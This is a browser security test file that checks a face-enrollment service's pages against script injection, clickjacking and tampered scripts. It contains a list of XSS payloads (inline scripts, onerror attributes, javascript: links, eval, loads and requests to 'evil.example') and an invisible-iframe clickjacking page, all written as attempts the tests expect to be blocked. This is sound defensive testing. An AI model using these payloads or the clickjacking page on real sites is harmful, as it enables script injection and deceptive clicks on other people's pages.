import type { ApplicationCredentials } from '@mien/shared/api/applications'
import type { Browser, Page } from 'playwright-core'
import { afterAll, beforeAll, describe, expect, test } from 'vitest'
import { launchChromium } from '../rig/chromium.ts'
import { clipFile } from '../rig/clips.ts'
import { startServer, type TestServer } from '../rig/server.ts'
import { type Site, startSite } from '../rig/site.ts'

let server: TestServer
let browser: Browser
let listed: Site
let stranger: Site
let application: ApplicationCredentials

/** A page around a page of ours, invisible above a button that somebody wants to press. */
const around = (address: string) => `<!doctype html><body>
  <button style="position:absolute;top:40px;left:40px;width:300px;height:200px">Win a prize</button>
  <iframe id="ours" allow="camera" style="position:absolute;inset:0;width:100%;height:100%;opacity:0.01" src="${address}"></iframe>`

beforeAll(async () => {
  server = await startServer()
  const pages = { demo: '/', enroll: '/enroll.html', reference: '/reference/' }
  const frames = (address: (path: string) => string) =>
    Object.fromEntries(Object.entries(pages).map(([name, path]) => [`/${name}`, around(address(path))]))
  ;[listed, stranger] = (await Promise.all([0, 1].map(() => startSite(sitePages)))) as [Site, Site]
  application = await server.admin.createApplication({ name: 'Harbour Library', origins: [listed.origin] })
  Object.assign(
    sitePages,
    frames((path) => server.url + path),
    {
      '/invited': around(`${server.url}/enroll.html?app=${application.public_id}`),
    },
  )
  browser = await launchChromium()
})
const sitePages: Record<string, string> = {}

afterAll(async () => {
  await browser?.close()
  await Promise.all([server, listed, stranger].map((part) => part?.close()))
})

interface Visit {
  readonly page: Page
  /** What the browser refused because of the page's policy. */
  readonly violations: string[]
}

async function visit(path: string): Promise<Visit> {
  const page = await browser.newPage()
  const violations: string[] = []
  page.on('console', (message) => {
    if (/Content Security Policy|TrustedHTML|TrustedScript|Trusted Type/.test(message.text()))
      violations.push(message.text())
  })
  page.on('pageerror', (error) => violations.push(String(error)))
  await page.goto(server.url + path)
  return { page, violations }
}

/** What somebody would try who can write into the page: whether it ran, by name. */
const attempts = `(async () => {
  // The browser lets a debugger's own call evaluate what it likes; what comes after is the page's.
  await new Promise((resolve) => setTimeout(resolve))
  const ran = {}
  window.mark = (name) => { ran[name] = true }
  const add = (tag, fields) => document.body.append(Object.assign(document.createElement(tag), fields))
  const tries = {
    'inline script': () => add('script', { textContent: 'mark("inline script")' }),
    'script from elsewhere': () => add('script', { src: 'https://evil.example/x.js' }),
    'script from data': () => add('script', { src: 'data:text/javascript,mark("script from data")' }),
    'event attribute': () => document.body.insertAdjacentHTML('beforeend', '<img src=x onerror="mark(\\'event attribute\\')">'),
    'inner HTML': () => { document.body.lastElementChild.innerHTML = '<img src=x onerror="mark(\\'inner HTML\\')">' },
    'javascript address': () => { const a = document.createElement('a'); a.href = 'javascript:mark("javascript address")'; document.body.append(a); a.click() },
    'set attribute': () => { const i = document.createElement('img'); i.setAttribute('onerror', 'mark("set attribute")'); i.src = 'x'; document.body.append(i) },
    'timer': () => setTimeout('mark("timer")'),
    'eval': () => (0, eval)('mark("eval")'),
    'worker': () => { new Worker('data:text/javascript,1'); mark('worker') },
    'policy': () => { trustedTypes.createPolicy('evil', { createHTML: (text) => text }); mark('policy') },
    'form': () => { const f = document.createElement('form'); f.action = 'https://evil.example/'; f.target = 'x'; document.body.append(f); f.submit() },
    'base': () => { const b = document.createElement('base'); b.href = 'https://evil.example/'; document.head.append(b); if (document.baseURI.includes('evil')) mark('base') },
    'frame': () => add('iframe', { srcdoc: '<script>parent.mark("frame")</script>' }),
    'style': () => { add('style', { textContent: 'body { --injected: 1 }' }); if (getComputedStyle(document.body).getPropertyValue('--injected')) mark('style') },
  }
  for (const act of Object.values(tries)) try { await act() } catch {}
  await fetch('https://evil.example/').then(() => mark('fetch'), () => {})
  await new Promise((resolve) => setTimeout(resolve, 300))
  return { tried: Object.keys(tries).length + 1, ran: Object.keys(ran) }
})()`

describe('WEB-01: our pages in Chromium', () => {
  test.each([
    ['/', 'h1'],
    ['/enroll.html', '#ending-title'],
    ['/reference/', '.opblock'],
  ])('%s needs nothing that its policy refuses, and nothing that is written into it runs', async (path, sign) => {
    const { page, violations } = await visit(path)
    await page.locator(sign).first().waitFor({ timeout: 30_000 })
    if (path === '/reference/') await page.locator('.opblock-summary-control').first().click()
    expect(violations).toEqual([])
    const { tried, ran } = (await page.evaluate(attempts)) as { tried: number; ran: string[] }
    console.log(`WEB-01 ${path}: 0 violations of its own; of ${tried} injections ${ran.length} ran`)
    expect(ran).toEqual([])
    expect(violations.length).toBeGreaterThan(5)
    expect(await page.evaluate('crossOriginIsolated')).toBe(true)
    await page.close()
  })
})

/** What the frame holds in the end; a refused one holds the browser's own error. */
async function frameIn(site: Site, path: string): Promise<string> {
  const page = await browser.newPage()
  await page.goto(site.origin + path)
  const frame = await (await page.waitForSelector('#ours')).contentFrame()
  await expect.poll(() => frame?.url(), { timeout: 10_000 }).not.toBe('')
  await page.waitForLoadState('networkidle')
  const heading = frame?.url().startsWith('chrome-error:') ? 'refused' : 'shown'
  await page.close()
  return heading
}

describe('WEB-03: somebody’s page around ours', () => {
  test('is refused, invisible and above a button or not, except where the application listed it', async () => {
    const figures: string[] = []
    for (const path of ['/demo', '/enroll', '/reference', '/invited']) {
      for (const site of [listed, stranger]) {
        const expected = path === '/invited' && site === listed ? 'shown' : 'refused'
        const seen = await frameIn(site, path)
        figures.push(`${path} by ${site === listed ? 'a listed' : 'another'} origin: ${seen}`)
        expect([path, site === listed, seen]).toEqual([path, site === listed, expected])
      }
    }
    console.log(`WEB-03: ${figures.join('; ')}`)
  })
})

test('WEB-03: in the frame of a listed origin, which hands the camera on, somebody enrolls', async () => {
  const opened = await fetch(`${server.url}/v1/sessions`, {
    method: 'POST',
    headers: { authorization: `Bearer ${application.secret_key}`, 'content-type': 'application/json' },
    body: JSON.stringify({ operation: 'enroll', user_ref: 'reader-1' }),
  })
  const { client_token } = (await opened.json()) as { client_token: string }
  sitePages['/inside'] =
    `<!doctype html><iframe id="ours" allow="camera" style="width:100%;height:900px" src="${server.url}/enroll.html?app=${application.public_id}#${client_token}"></iframe>`
  const withCamera = await launchChromium({ camera: { clip: await clipFile('manB') } })
  try {
    const page = await withCamera.newPage({ locale: 'en-GB' })
    await page.goto(`${listed.origin}/inside`)
    const inside = page.frameLocator('#ours')
    await inside.getByRole('button', { name: 'Start' }).click()
    await inside.getByRole('button', { name: 'I agree' }).click()
    await inside.getByRole('dialog').getByRole('button', { name: 'Start' }).click()
    await inside.getByText('You can close this page now.').waitFor({ timeout: 50_000 })
  } finally {
    await withCamera.close()
  }
  const answer = await fetch(`${server.url}/v1/subjects`, {
    headers: { authorization: `Bearer ${application.secret_key}` },
  })
  expect(await answer.json()).toMatchObject({ subjects: [{ user_ref: 'reader-1' }] })
})

describe('WEB-06: a script that is pinned', () => {
  const load = (path: string, integrity: string) =>
    `<!doctype html><script src="${server.url}${path}" integrity="${integrity}" crossorigin="anonymous"></script>`
  const outcome = async (html: string): Promise<unknown> => {
    sitePages['/pinned'] = html
    const page = await browser.newPage()
    await page.goto(`${listed.origin}/pinned`)
    const kind = await page.evaluate('typeof window.faceIO')
    await page.close()
    return kind
  }

  test('runs as it is, under both of its addresses, and not when one byte is another', async () => {
    const pinned = (await (await fetch(`${server.url}/integrity.json`)).json()) as Record<
      string,
      { integrity: string; path: string }
    >
    const { integrity, path } = pinned['fio.js']!
    const other = integrity.replace(/.{4}$/, (end) => (end === 'AAAA' ? 'BBBB' : 'AAAA'))
    const seen = [
      await outcome(load(path, integrity)),
      await outcome(load('/fio.js', integrity)),
      await outcome(load(path, other)),
      await outcome(load('/mien-face.js', integrity)),
    ]
    expect(seen).toEqual(['function', 'function', 'undefined', 'undefined'])
    console.log('WEB-06: pinned script ran 2 of 2, altered or exchanged 0 of 2')
  })
})
